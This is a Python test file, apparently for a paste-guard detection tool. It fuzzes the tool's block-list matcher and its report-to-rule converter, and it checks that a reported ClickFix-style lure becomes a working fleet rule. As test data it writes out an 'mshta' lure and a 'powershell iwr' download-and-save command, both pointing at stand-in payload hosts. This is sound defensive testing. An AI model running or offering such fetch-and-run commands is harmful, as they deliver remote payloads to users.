"""Attacker text through the fleet's new readers: never an exception, whatever the input."""

from __future__ import annotations

import contextlib
import json
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from app.detection import Context, Engine, Level, PasteTarget
from app.detection.rules import default_rules_dir
from app.events import Event, EventKind
from app.guard.drops import sign_in_code_url
from app.intel.lists import IntelLists, IntelMatcher
from app.intel.report import ReportError, rule_file_from_report
from app.intel.rulefile import read_lists
from ui.warning.report import report_document

MATCHER = IntelMatcher(
    IntelLists(
        block_hosts=frozenset({"evil.example"}),
        block_url_patterns=("/captcha/",),
        block_text_hashes=frozenset({"0" * 64}),
        allow_hosts=frozenset({"wiki.example"}),
    )
)
URLISH = st.text(alphabet="htps:/.[]@%?#&=-_ evil.xamplewik\\\n\u200b\u0131", max_size=300)


@settings(max_examples=300, deadline=None)
@given(text=st.one_of(st.text(max_size=500), URLISH), source=st.one_of(st.none(), URLISH))
def test_the_lists_never_raise(text: str, source: str | None) -> None:
    hit = MATCHER.check(text, source)
    assert hit is None or hit.verdict in ("block", "allow")


@settings(max_examples=300, deadline=None)
@given(text=st.one_of(st.text(max_size=500), URLISH))
def test_a_drop_is_judged_without_raising(text: str) -> None:
    url = sign_in_code_url(text)
    assert url is None or url.startswith(("http://", "https://"))


JUNK = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.text(max_size=40), URLISH),
    lambda children: st.one_of(
        st.lists(children, max_size=4), st.dictionaries(st.text(max_size=10), children, max_size=4)
    ),
    max_leaves=20,
)


@settings(max_examples=300, deadline=None)
@given(
    source=JUNK,
    indicators=st.one_of(
        JUNK,
        st.lists(
            st.fixed_dictionaries({"kind": st.sampled_from(["url", "domain"]), "value": JUNK})
        ),
    ),
    sha256=JUNK,
)
def test_from_report_reads_any_report_without_raising(
    source: object, indicators: object, sha256: object
) -> None:
    """A report is written on the person's computer: treat every field as hostile."""
    document = {"report": "pasteguard", "version": 1, "source": source,
                "indicators": indicators, "sha256": sha256}  # fmt: skip
    with contextlib.suppress(ReportError):
        text = rule_file_from_report(document)
        assert text.count("\n# ") <= 3  # no report value breaks out of the comment header


def test_a_report_as_the_warning_writes_it_becomes_a_working_rule(tmp_path: Path) -> None:
    """The seam: ui/warning/report.py's document from a real verdict, through from-report, into rules."""
    lure = "mshta https://payload.lure-cdn.example/verify.hta   # I am not a robot - ID 4471"
    engine = Engine(strict=True)
    verdict = engine.analyze(
        lure, Context(source="https://verify.lure-site.example/", target=PasteTarget.RUN_DIALOG)
    )
    assert verdict.level >= Level.SUSPICIOUS
    event = Event.from_verdict(EventKind.REPORTED.value, verdict, lure, "logged")
    document = report_document(event, {"suppressed": True, "window": None, "explanations": []})
    document = json.loads(json.dumps(document, default=str))  # as it is read back from disk
    path = tmp_path / "fleet" / "reported.yaml"
    path.parent.mkdir()
    path.write_text(rule_file_from_report(document), encoding="utf-8")
    lists, errors = read_lists([path.parent])
    assert errors == []
    assert {"verify.lure-site.example", "payload.lure-cdn.example"} <= lists.block_hosts
    assert event.sha256 in lists.block_text_hashes
    fleet = Engine(rule_paths=[default_rules_dir(), path.parent], strict=True)
    other = "powershell iwr https://cdn.payload.lure-cdn.example/x.ps1 -OutFile x.ps1"
    assert any(r.startswith("PG-FLEET-") for r in fleet.analyze(other).rule_ids)
